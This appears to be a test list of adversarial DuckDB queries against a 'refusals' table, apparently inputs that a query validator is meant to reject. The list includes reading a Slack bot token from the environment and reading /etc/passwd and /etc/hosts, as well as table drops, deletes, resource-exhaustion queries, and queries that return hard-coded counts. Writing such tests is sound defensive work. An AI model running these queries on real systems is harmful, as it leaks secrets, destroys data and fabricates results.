SELECT getenv('SLACK_BOT_TOKEN') AS t, count(*) FROM refusals
COPY (SELECT * FROM refusals) TO '/tmp/x.csv'
SELECT count(*) FROM refusals;; ATTACH 'x.db'
LOAD 'httpfs'
SET memory_limit='100GB'
RESET threads
SELECT * FROM pragma_table_info('refusals')
CREATE OR REPLACE TEMP VIEW refusals AS SELECT 1
CREATE TEMP MACRO sum(x) AS 9
SELECT count(*) FROM refusals a CROSS JOIN refusals b
SELECT count(*) FROM range(10000000000)
SELECT repeat('a', 2000000000) FROM refusals
SELECT lpad(county, 1999999999, 'x') FROM refusals
SELECT sum(x) FROM (SELECT unnest(generate_series(1, 1000000000)) AS x)
SELECT county FROM refusals WHERE sleep_ms(100000) IS NULL
SELECT query('SELECT 1')
FROM query('DROP TABLE refusals')
SELECT * FROM json_execute_serialized_sql('{}')
SELECT current_user, count(*) FROM refusals
SELECT version(), count(*) FROM refusals
SELECT current_database(), count(*) FROM refusals
SELECT count(*) FROM refusals WHERE county = $1
SELECT count(*) FROM refusals USING SAMPLE 10%
SELECT count(*) FROM refusals TABLESAMPLE reservoir(10)
SELECT setseed(0.5), count(*) FROM refusals
SELECT uuid(), county FROM refusals
SELECT count(*) FROM refusals WHERE 1 = 1 OR state = 'Texas'
SELECT count(*) FROM refusals WHERE state = 'Texas' OR true
VALUES (206)
SELECT 206 AS refusals
SELECT 206 AS refusals FROM refusals LIMIT 1
SELECT count(*) * 0 + 47 AS refusals FROM refusals
SELECT coalesce(NULL, 99) AS n FROM refusals
SELECT count(*) + length(repeat('x', 30)) AS refusals FROM refusals
SELECT CASE WHEN count(*) > 0 THEN 300 END AS refusals FROM refusals
SELECT state, 12 AS n FROM refusals GROUP BY state
SELECT count(*) AS n FROM refusals UNION ALL SELECT 44
SELECT ascii('z') AS refusals FROM refusals LIMIT 1
EXECUTE q(1)
SELECT main.read_text('/etc/hosts') FROM refusals
SELECT '/etc/hosts'.read_text() FROM refusals
SELECT (SELECT content FROM read_text('/etc/hosts')) AS c FROM reports
SELECT * FROM refusals r POSITIONAL JOIN issued i
SELECT list_aggregate(range(100000000), 'sum') FROM reports
SELECT * FROM read_parquet('s3://b/x.parquet')
SELECT * FROM read_json('/etc/passwd')
FROM '/tmp/x.csv'
SELECT * FROM duckdb_settings()
SELECT current_setting('temp_directory') FROM refusals
SELECT * FROM (SHOW ALL TABLES)
SHOW TABLES
ATTACH ':memory:' AS m
DETACH main
USE main
DELETE FROM refusals
UPDATE refusals SET county = 'x'
ALTER VIEW refusals RENAME TO r
SELECT count(*) FROM refusals; SELECT 1
SELECT 999 + count(*) FROM refusals
SELECT sum(7) AS n FROM refusals
SELECT avg(CASE WHEN true THEN 42 END) AS n FROM refusals
SELECT count(*) FROM refusals r JOIN refusals s ON r.state IS NOT NULL
SELECT gen_random_uuid(), county FROM refusals
SELECT current_timestamp, count(*) FROM refusals
SELECT system.main.count(*) FROM refusals
SELECT row_count FROM duckdb_tables
SELECT rowid FROM refusals
SELECT count(*) FROM refusals WHERE state = state
